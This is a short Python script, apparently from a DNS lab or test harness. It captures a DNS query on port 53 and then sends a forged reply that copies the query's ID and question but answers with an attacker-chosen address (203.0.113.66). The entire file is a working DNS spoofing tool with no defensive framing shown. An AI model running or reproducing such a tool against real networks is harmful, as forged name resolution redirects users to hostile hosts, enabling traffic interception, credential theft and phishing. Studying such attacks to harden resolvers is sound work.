#!/usr/bin/env python3
"""in-place-of.py hear ADDR PORT                     prints port and bytes of a query
in-place-of.py answer ADDR NODE PORT BYTES           answers it, as ADDR, port 53

The answer is right in all but its address, 203.0.113.66."""
import socket
import struct
import sys

from wire import question_end

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((sys.argv[2], 53))
if sys.argv[1] == "hear":
    query, client = sock.recvfrom(65535)
    print(client[1], query.hex(), flush=True)
else:
    query = bytes.fromhex(sys.argv[5])
    record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton("203.0.113.66")
    header = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
    sock.sendto(header + query[12:question_end(query)] + record, (sys.argv[3], int(sys.argv[4])))
